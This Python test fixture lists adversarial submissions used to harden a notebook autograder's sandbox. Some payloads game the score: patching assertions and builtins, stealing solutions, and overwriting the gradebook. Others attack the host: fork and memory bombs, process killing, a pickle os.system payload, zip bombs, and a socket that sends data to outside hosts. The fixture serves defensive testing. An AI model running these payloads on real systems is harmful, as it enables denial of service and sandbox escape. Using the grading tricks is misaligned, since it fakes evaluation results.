"""Attacks on the grader: submissions for notebook 01 that try to score more than they earn.

Each attack replaces one answer cell of a base notebook ("release": every other exercise a
stub; "solution": every other exercise correct) and states the score its honest content
deserves. Placeholders filled in by the test: {ROOT} (the repository, with solutions/),
{COURSE} (the instructor's course folder with the gradebook), {CANARY} (a host path that
must never be created), {PORT} (a TCP port on the host's loopback that must never be reached).
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    cell: str       # answer cell (grade_id) whose source becomes ``code``
    code: str
    score: float    # what the honest part earns
    base: str = "release"


SOLUTION_RELU = "def relu(z):\n    return np.maximum(z, 0)\n"

ATTACKS = [
    Attack("eq_always_true", "relu", """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): import numpy; return numpy.array(self, dtype=object)
def relu(z):
    return Anything()
""", 0),
    Attack("patch_numpy_testing", "relu", """
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
def relu(z):
    return z
""", 0),
    Attack("input_transformer_erases_later_cells", "softmax", """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
def softmax(z):
    return z
""", 2, base="solution_first_two"),
    Attack("override_showtraceback", "relu", """
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
def relu(z):
    raise ValueError("hidden failure")
""", 0),
    Attack("set_custom_exc_swallows_errors", "relu", """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
def relu(z):
    return None
""", 0),
    Attack("patch_builtins", "relu", """
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.AssertionError = type("Never", (Exception,), {})
builtins.len = lambda x: 0
def relu(z):
    return z
""", 0),
    Attack("patch_numpy_io", "relu", """
np.savez = lambda *a, **k: None
np.load = lambda *a, **k: {}
np.asarray = lambda x, *a, **k: x
def relu(z):
    return z
""", 0),
    Attack("patch_torch", "relu", """
import torch
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
def relu(z):
    return z
""", 0),
    Attack("patch_grader_helpers", "relu", """
import sys, types
fake = types.ModuleType("grader")
fake.notebook = types.SimpleNamespace(check=lambda *a, **k: None)
sys.modules["grader"] = fake
sys.modules["grader.notebook"] = fake.notebook
try:
    from grader.checking.oracles import relu as _oracle
    def relu(z):
        return _oracle(z)
except Exception:
    def relu(z):
        return z
""", 0),
    Attack("import_the_oracles", "relu", """
import importlib.util, sys
sys.path[:0] = ["{ROOT}"]
from grader.checking import oracles
def relu(z):
    return oracles.relu(z)
""", 0),
    Attack("hard_coded_visible_answers", "relu", """
def relu(z):
    known = {(1, 5): np.array([[0.0, 0.0, 0.0, 0.5, 3.0]]), (3, 4): np.maximum(np.arange(-6.0, 6.0).reshape(3, 4), 0)}
    return known.get(z.shape, np.zeros_like(z))
""", 7, base="solution"),
    Attack("read_the_solutions", "relu", """
import glob, json, os
paths = glob.glob("{ROOT}/solutions/*/*.ipynb") + glob.glob("/**/solutions/01_forward/*.ipynb", recursive=True)
for path in paths:
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())
if not paths:
    def relu(z):
        raise NotImplementedError()
""", 0),
    Attack("write_the_gradebook", "relu", """
import sqlite3
db = sqlite3.connect("{COURSE}/gradebook.db")
db.execute("UPDATE grade SET auto_score = 100")
db.commit()
def relu(z):
    return z
""", 0),
    Attack("write_outside_the_scratch_folder", "relu", """
for target in ["{CANARY}", "/tmp/../{CANARY}", "{COURSE}/autograded/victim/01_forward/grader.json", "/sandbox/../escaped"]:
    try:
        with open(target, "w") as f:
            f.write("pwned")
    except OSError:
        pass
def relu(z):
    return z
""", 0),
    Attack("kill_the_parent", "relu", """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
def relu(z):
    return z
""", 0),
    Attack("fork_bomb", "relu", """
import os
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            import time
            while True:
                time.sleep(1)
        children += 1
except OSError:
    pass
def relu(z):
    return z
""", 0),
    Attack("memory_bomb", "relu", """
hog = []
while True:
    hog.append(bytearray(1 << 28))
""", 0),
    Attack("network_connection", "relu", """
import socket
for address in [("127.0.0.1", {PORT}), ("10.0.0.1", 80), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(address, timeout=1).sendall(b"pwned")
    except OSError:
        pass
def relu(z):
    return z
""", 0),
    Attack("pickle_payload_in_the_channel", "relu", """
import os, pickle, threading, time, json
class Payload:
    def __reduce__(self):
        return (os.system, ("touch {CANARY}",))
def forge():
    for _ in range(400):
        for n in range(40):
            np.save  # keep numpy referenced
            try:
                with open(f"/sandbox/out/{n}.npz", "wb") as f:
                    pickle.dump(Payload(), f)
            except OSError:
                pass
        with open("/sandbox/events.jsonl", "a") as f:
            f.write(json.dumps({"event": "call_end", "index": 0, "ok": True, "keys": [""]}) + "\\n")
        time.sleep(0.005)
threading.Thread(target=forge, daemon=True).start()
def relu(z):
    return np.array([Payload()], dtype=object)
""", 0),
    Attack("symlinks_to_devices_and_fifos", "relu", """
import os
os.makedirs("/sandbox/out", exist_ok=True)
for n in range(40):
    try:
        os.symlink("/dev/zero", f"/sandbox/out/{n}.npz")
    except OSError:
        pass
try:
    os.remove("/sandbox/events.jsonl")
    os.mkfifo("/sandbox/events.jsonl")
except OSError:
    pass
def relu(z):
    return z
""", 0),
    Attack("output_flood", "relu", """
import os, sys
print("x" * 50_000_000)
os.write(1, b"y" * 10_000_000)
sys.stderr.write("z" * 10_000_000)
def relu(z):
    return np.maximum(z, 0)
""", 10, base="solution"),
    Attack("replace_the_harness_and_crash", "relu", """
import os
with open("/sandbox/harness.py", "w") as f:
    f.write("import os\\nos.makedirs('/sandbox/out', exist_ok=True)\\n")
os._exit(1)
""", 0),
    Attack("exit_from_the_function", "relu", """
import sys
def relu(z):
    sys.exit(0)
""", 7, base="solution"),
]


# --- results forged by learner code that replaced the harness's writer -------------------------
#
# The learner's code runs in the harness's own process, so it can replace the function that
# writes each call's result. These attacks keep every answer correct and forge only the file
# of call 0 (relu's first visible call): that call, and so relu, must fail with "could not be
# read back as numbers", the rest of the notebook must keep its points, and the grader must
# neither allocate what a header declares nor inflate what a member compresses.

FORGED_WRITER = """
import gc, io, zipfile
import numpy as np
from numpy.lib import format as npy_format
# The harness's globals: IPython hid its module, but its functions still hold them.
_harness = next(o for o in gc.get_objects() if isinstance(o, dict) and "_SAVEZ" in o and "make_calls" in o)
_honest_write = _harness["_SAVEZ"]

def npy_header(shape, descr="<f8"):
    out = io.BytesIO()
    npy_format.write_array_header_1_0(out, {"descr": descr, "fortran_order": False, "shape": shape})
    return out.getvalue()

def _forged_write(path, **arrays):
    if not str(path).endswith("/0.npz"):
        return _honest_write(path, **arrays)
{forge}

_harness["_SAVEZ"] = _forged_write

def relu(z):
    return np.maximum(z, 0)
"""


def _forging(body: str) -> str:
    return FORGED_WRITER.replace("{forge}", "\n".join("    " + line for line in body.strip().splitlines()))


READING_ATTACKS = [
    Attack("forged_huge_declared_shape", "relu", _forging("""
with zipfile.ZipFile(path, "w") as zf:
    zf.writestr("a0.npy", npy_header((10**12,)) + b"\\0" * 64)
"""), 9, base="solution"),
    Attack("forged_inflating_member", "relu", _forging("""
with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
    with zf.open("a0.npy", "w", force_zip64=True) as member:
        member.write(npy_header((1 << 24,)))
        chunk = bytes(1 << 22)
        for _ in range(32):  # 128 MiB of zeros, about 128 KB once compressed
            member.write(chunk)
"""), 9, base="solution"),
    Attack("forged_wrong_member_names", "relu", _forging("""
_honest_write(path, **{"b" + key[1:]: value for key, value in arrays.items()})
"""), 9, base="solution"),
    Attack("forged_extra_member", "relu", _forging("""
_honest_write(path, **arrays, **{f"a{len(arrays)}": np.zeros(3)})
"""), 9, base="solution"),
    Attack("forged_truncated_file", "relu", _forging("""
_honest_write(path, **arrays)
with open(path, "r+b") as f:
    f.truncate(len(open(path, "rb").read()) // 2)
"""), 9, base="solution"),
    Attack("forged_object_array", "relu", _forging("""
np.savez(path, a0=np.array([{"not": "numbers"}], dtype=object))
"""), 9, base="solution"),
]


# Round 3: attacks on the slot and the host rather than on the score (tests/test_containment.py
# checks each leaves nothing behind; here they run in the class graded with --jobs 2).
_DAEMON = """
import os, time
if os.fork() == 0:                      # a double-forked daemon in its own session, spinning
    os.setsid()
    if os.fork() == 0:
        while True:
            pass
    os._exit(0)
"""

SLOT_ATTACKS = [
    Attack("forged_event_fails_the_submission", "relu", _DAEMON + """
open("/sandbox/events.jsonl", "a").write('{"event": "cell_start", "index": "not-a-number"}\\n')
def relu(z):
    return np.maximum(z, 0)
""", 0, base="solution"),
    Attack("spinners_outlive_their_cell", "relu", _DAEMON + """
for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
def relu(z):
    return np.maximum(z, 0)
""", 10, base="solution"),
    Attack("shared_memory_for_the_next_student", "relu", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for key in range(4):
    segment = libc.shmget(0x5EC7E0 + key, 64 << 20, 0o1000 | 0o666)
    ctypes.memmove(libc.shmat(segment, None, 0), b"the answers are...", 18)
def relu(z):
    return np.maximum(z, 0)
""", 10, base="solution"),
]

ATTACKS += SLOT_ATTACKS
